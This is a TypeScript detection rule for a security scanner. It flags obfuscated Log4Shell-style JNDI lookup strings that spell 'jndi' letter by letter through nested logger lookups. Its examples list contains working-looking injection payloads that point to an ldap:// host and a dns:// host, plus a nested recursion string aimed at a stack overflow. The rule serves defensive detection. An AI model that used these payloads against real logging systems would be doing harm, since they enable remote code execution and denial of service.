import { type Lookup, lookupGrammar } from '../../grammars/template/lookup.ts';
import { confidence } from '../../placement/confidence.ts';
import type { ValueRule } from '../rule.ts';

/** Look-ups that spell a word letter by letter: nobody writes so who does not hide the word. */
export const nestedLookup: ValueRule = {
  id: 'jndi.nested-lookup',
  cwe: 'CWE-917',
  severity: 'high',
  score: confidence.strong,
  message: 'spells a protocol letter by letter with nested look-ups of a logger',
  trigger: { literals: [['${'], ['::-', 'lower:', 'upper:', 'env:', 'sys:', 'date:', ':-']] },
  judge: (subject) => {
    for (const one of subject.tokens(lookupGrammar).lookups) {
      const isEvidence =
        one.isTooDeep ||
        (one.inner >= 2 && (isHidden(subject.text, one) || isNameless(subject.text, one)));
      if (!isEvidence) continue;
      return { start: one.start, end: one.end };
    }
    return undefined;
  },
  examples: [
    '${${::-j}${::-n}${::-d}${::-i}${x}:ldap://203.0.113.5/a}',
    '${${lower:j}${lower:n}${foo}di:${lower:d}ns://203.0.113.5/}',
    '${${::-${::-$${::-x}}}}',
  ],
  lookalikes: [
    '${a:-${b:-${c:-default}}}',
    '${prefix}${env:HOME}/${env:USER}',
    '${${type}.${name}.url}',
  ],
};

/** A URL behind a prefix of which single letters are look-ups. */
function isHidden(text: string, lookup: Lookup): boolean {
  if (!lookup.resolved.includes('://')) return false;
  const source = text.slice(lookup.start, Math.min(lookup.end, lookup.start + 600));
  let letters = 0;
  for (const _ of source.matchAll(singleLetter)) letters++;
  return letters >= 2;
}

/** Look-ups without a name inside each other: the recursion that ends in a stack overflow. */
function isNameless(text: string, lookup: Lookup): boolean {
  const source = text.slice(lookup.start, Math.min(lookup.end, lookup.start + 600));
  return source.split('${::-', 4).length > 2;
}

const singleLetter = /(?::-|lower:|upper:|date:')[a-z:/]{1,2}'?\}/gi;
